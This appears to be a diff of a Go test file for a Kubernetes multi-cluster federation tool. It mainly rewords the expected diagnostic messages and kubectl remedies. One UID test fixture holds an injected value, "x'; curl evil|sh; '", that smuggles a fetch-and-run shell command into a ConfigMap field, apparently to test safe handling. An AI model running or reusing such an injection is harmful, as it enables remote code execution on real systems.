@@ -96,7 +96,7 @@ func clusterCases() []testCase {
 			},
 			want: []want{{
 				id: "D07", severity: warning, cluster: "c1",
-				message: "fedsync may not see secrets, and so not whether TLS Secrets exist and are equal everywhere; services, and so not which node ports are taken: none is chosen or checked (services is forbidden)",
+				message: "fedsync may not watch secrets, so it does not know whether TLS Secrets exist and are equal everywhere; services, so it does not know which node ports are taken: none is chosen or checked (services is forbidden)",
 				remedy:  "kubectl --context=ctx-c1 create clusterrole fedsync-facts --verb=list,watch --resource=services, and check with: kubectl --context=ctx-c1 auth can-i list services --all-namespaces",
 			}},
 		},
@@ -112,7 +112,7 @@ func clusterCases() []testCase {
 			},
 			want: []want{{
 				id: "unseen", severity: warning, cluster: "c1",
-				message: "fedsync cannot watch resourcequotas, and so not whether a quota has room (watch resourcequotas: slow down); what was known is kept",
+				message: "fedsync cannot watch resourcequotas, so it does not know whether a quota has room (watch resourcequotas: slow down); the last known state stays in use",
 				remedy:  "wait, or raise the limit for fedsync's user in the API server's priority levels or in the gateway before it",
 			}},
 		},
@@ -127,7 +127,7 @@ func clusterCases() []testCase {
 			},
 			want: []want{{
 				id: "D07", severity: warning, cluster: "c1", message: "*",
-				remedy: "grant it to its user, and bind each role: " +
+				remedy: "grant access to its user, and bind each role: " +
 					"kubectl --context=ctx-c1 create clusterrole fedsync-replicasets --verb=get,list,watch --resource=replicasets.apps; " +
 					"kubectl --context=ctx-c1 -n shop create role fedsync-secrets --verb=list,watch --resource=secrets --resource-name=cert --resource-name=other",
 			}},
@@ -192,7 +192,7 @@ func portCases() []testCase {
 				{
 					id: "D11", severity: warning, object: serviceRef,
 					message: "the node ports differ between clusters: port 80/TCP is node port 30061 in c1; 30999 in c3, and none is chosen until c2 is back",
-					remedy:  "mend the clusters that it waits for, or set a nodePort in apps/web/service-web.yaml",
+					remedy:  "repair the clusters that it waits for, or set a nodePort in apps/web/service-web.yaml",
 				},
 				{id: "port-waiting", severity: warning, object: serviceRef, message: "*"},
 			},
@@ -386,8 +386,8 @@ func ingressCases() []testCase {
 			},
 			want: []want{{
 				id: "D12", severity: warning, cluster: "c2", object: ingressRef,
-				message: "spec.ingressClassName: gce is not read by Google's controller in cluster c2: nobody takes care of it, and it cannot share the IP",
-				remedy:  "replace spec.ingressClassName by the annotation",
+				message: "spec.ingressClassName: gce is not read by Google's controller in cluster c2: no controller serves it, and it cannot share the IP",
+				remedy:  "replace spec.ingressClassName with the annotation",
 			}},
 		},
 		{name: "the class stands in the wrong field and the controller takes it all the same", change: func(w *world) { w.plan(byField, "c2") }},
@@ -474,7 +474,7 @@ func ingressCases() []testCase {
 				w.plan(backend("legacy", "{number: 80}"))
 				foreign(w, federation.Port{Port: 81})
 			},
-			want: []want{{id: "D20", severity: failure, object: ingressRef, message: "Service/shop/legacy, which is not of the repository, has no port 80; it has 81"}},
+			want: []want{{id: "D20", severity: failure, object: ingressRef, message: "Service/shop/legacy, which is not in the repository, has no port 80; it has 81"}},
 		},
 		{name: "Services may not be listed", lasted: time.Minute, change: func(w *world) {
 			w.plan(backend("missing", "{number: 80}"))
@@ -514,7 +514,7 @@ func uidCases() []testCase {
 			},
 			want: []want{{
 				id: "D13", severity: failure, object: uidRef,
-				message: `the UIDs of Google's ingress controllers differ, so each makes a load balancer of its own: "bbbb" in c1; "aaaa" in c2, c3`,
+				message: `the UIDs of Google's ingress controllers differ, so each creates its own load balancer: "bbbb" in c1; "aaaa" in c2, c3`,
 				remedy:  `kubectl --context=ctx-c1 -n kube-system patch configmap ingress-uid --type=merge -p '{"data":{"uid":"aaaa"}}'`,
 			}},
 		},
@@ -528,20 +528,20 @@ func uidCases() []testCase {
 			},
 			want: []want{{
 				id: "D13", severity: failure, object: uidRef,
-				message: `the UIDs of Google's ingress controllers differ, so each makes a load balancer of its own: "bbbb" in c1; "x'; curl evil|sh; '" in c2, c3`,
-				remedy:  "see who wrote ConfigMap/kube-system/ingress-uid: the UID that most clusters have is none that Google's controller makes",
+				message: `the UIDs of Google's ingress controllers differ, so each creates its own load balancer: "bbbb" in c1; "x'; curl evil|sh; '" in c2, c3`,
+				remedy:  "check who wrote ConfigMap/kube-system/ingress-uid: the UID that most clusters have is not one that Google's controller generates",
 			}},
 		},
 		{name: "UIDs differ and nobody shares them", change: other},
 		{
-			name: "controllers of one UID write one firewall rule",
+			name: "controllers of one UID write the same firewall rule",
 			change: func(w *world) {
 				sharedUID(w)
 				w.facts(func(f *federation.ClusterFacts) { f.IngressUID.Provider = "" }, "c1", "c3")
 			},
 			want: []want{{
 				id: "D16", severity: warning, object: uidRef,
-				message: "the controllers of c1, c3 write one firewall rule, k8s-fw-l7--aaaa, each for its own nodes: where the clusters share a network, it flaps",
+				message: "the controllers of c1, c3 write the same firewall rule, k8s-fw-l7--aaaa, each for its own nodes: if the clusters share a network, the rule flaps",
 				remedy:  `kubectl --context=ctx-c1 -n kube-system patch configmap ingress-uid --type=merge -p '{"data":{"provider-uid":"a9f7e97965d6cf79"}}'; kubectl`,
 			}},
 		},
@@ -582,8 +582,8 @@ func uidCases() []testCase {
 			},
 			want: []want{{
 				id: "D15", severity: failure, cluster: "c2", object: ingressRef,
-				message: `in c2 was built with UID "cccc", the cluster now has "aaaa"`,
-				remedy:  "delete it, and fedsync makes it anew: kubectl --context=ctx-c2 -n shop delete ingress web",
+				message: `in c2 was built with UID "cccc", but the cluster now has "aaaa"`,
+				remedy:  "delete it; fedsync creates it again: kubectl --context=ctx-c2 -n shop delete ingress web",
 			}},
 		},
 		{name: "names that hold no whole UID", change: func(w *world) {
@@ -633,7 +633,7 @@ func certificateCases() []testCase {
 			},
 			want: []want{{
 				id: "D19", severity: failure, cluster: "c2", object: secretRef,
-				message: `is of type "Opaque"; networking.k8s.io/Ingress/shop/web names it under spec.tls, which takes kubernetes.io/tls`,
+				message: `is of type "Opaque"; networking.k8s.io/Ingress/shop/web names it under spec.tls, which requires kubernetes.io/tls`,
 				remedy:  "kubectl --context=ctx-c2 -n shop delete secret cert",
 			}},
 		},
@@ -645,14 +645,14 @@ func certificateCases() []testCase {
 			},
 			want: []want{{
 				id: "D19", severity: failure, cluster: "c2", object: secretRef, message: "*",
-				remedy: "make it of type kubernetes.io/tls in apps/web/secret-cert.yaml, under another name",
+				remedy: "set type kubernetes.io/tls in apps/web/secret-cert.yaml, and use another name",
 			}},
 		},
 		{
 			name: "certificates differ", lasted: time.Minute, change: renewed,
 			want: []want{{
 				id: "D19", severity: failure, object: secretRef,
-				message: "holds different certificates, while clients of networking.k8s.io/Ingress/shop/web reach any cluster: certificate fedcba987654 in c2; certificate 0123456789ab in c1, c3",
+				message: "holds different certificates, but clients of networking.k8s.io/Ingress/shop/web may reach any cluster: certificate fedcba987654 in c2; certificate 0123456789ab in c1, c3",
 			}},
 		},
 		{name: "certificates differ where each cluster has its own address", lasted: time.Minute, change: func(w *world) {
@@ -679,7 +679,7 @@ func certificateCases() []testCase {
 			},
 			want: []want{{
 				id: "D19", severity: failure, object: secretRef,
-				message: "holds different certificates, while clients of networking.k8s.io/Ingress/shop/web-2 reach any cluster: certificate fedcba987654 in c2; certificate 0123456789ab in c1, c3",
+				message: "holds different certificates, but clients of networking.k8s.io/Ingress/shop/web-2 may reach any cluster: certificate fedcba987654 in c2; certificate 0123456789ab in c1, c3",
 			}},
 		},
 		{
@@ -737,7 +737,7 @@ func serviceCases() []testCase {
 			},
 			want: []want{{
 				id: "no-share", severity: note, cluster: "c2", object: serviceRef,
-				message: "no replica of it is placed here, so networking.k8s.io/Ingress/shop/web sends nobody to this cluster",
+				message: "no replica is placed in this cluster, so networking.k8s.io/Ingress/shop/web sends no traffic to it",
 			}},
 		},
 		{
@@ -790,8 +790,8 @@ func serviceCases() []testCase {
 			},
 			want: []want{{
 				id: "selector", severity: warning, object: serviceRef,
-				message: "its selector app=wbe takes no pods: apps/ReplicaSet/shop/web has app=web",
-				remedy:  "make spec.selector in apps/web/service-web.yaml equal to labels of a pod template",
+				message: "its selector app=wbe matches no pods: apps/ReplicaSet/shop/web has app=web",
+				remedy:  "set spec.selector in apps/web/service-web.yaml to labels of a pod template",
 			}},
 		},
 		{
@@ -843,7 +843,7 @@ func workloadCases() []testCase {
 	waits := decide(func(d *federation.ReplicasDecision) { d.Waits = []string{"c3"} })
 	return []testCase{
 		{
-			name: "pods find no node",
+			name: "pods are unschedulable",
 			change: func(w *world) {
 				w.facts(func(f *federation.ClusterFacts) {
 					f.Workloads = []federation.Workload{{
@@ -853,7 +853,7 @@ func workloadCases() []testCase {
 			},
 			want: []want{{
 				id: "D21", severity: warning, cluster: "c1", object: replicaSetRef,
-				message: "7 of 17 pods find no node; there is room for 10: 0/3 nodes are available: 3 Insufficient cpu.",
+				message: "7 of 17 pods are unschedulable; there is room for 10: 0/3 nodes are available: 3 Insufficient cpu.",
 				remedy:  "kubectl --context=ctx-c1 -n shop get pods --field-selector=status.phase=Pending",
 			}},
 		},
@@ -883,13 +883,13 @@ func workloadCases() []testCase {
 			w.facts(func(f *federation.ClusterFacts) { f.Workloads[0].Ready = 1 }, "c1")
 		}},
 		{name: "replicas that find no place are the schedule's to tell", change: decide(func(d *federation.ReplicasDecision) {
-			d.Total, d.Shortfall, d.Reason = 9, 3, "max of every cluster reached"
+			d.Total, d.Shortfall, d.Reason = 9, 3, "every cluster has reached its maximum"
 		})},
 		{
 			name: "replicas that are held too long", lasted: 10 * time.Minute, change: held,
 			want: []want{{
 				id: "replicas-held", severity: warning, object: replicaSetRef,
-				message: "c1 keeps 1 beside its 1 until pods elsewhere are Ready: c2 has 2 of 3",
+				message: "c1 keeps 1 in addition to its 1 until pods elsewhere are Ready: c2 has 2 of 3",
 			}},
 		},
 		{
@@ -910,7 +910,7 @@ func workloadCases() []testCase {
 			},
 			want: []want{{
 				id: "replicas-waiting", severity: warning, object: replicaSetRef,
-				message: "its 6 replicas are not divided anew until c3 is back",
+				message: "its 6 replicas are not divided again until c3 is back",
 			}},
 		},
 		{
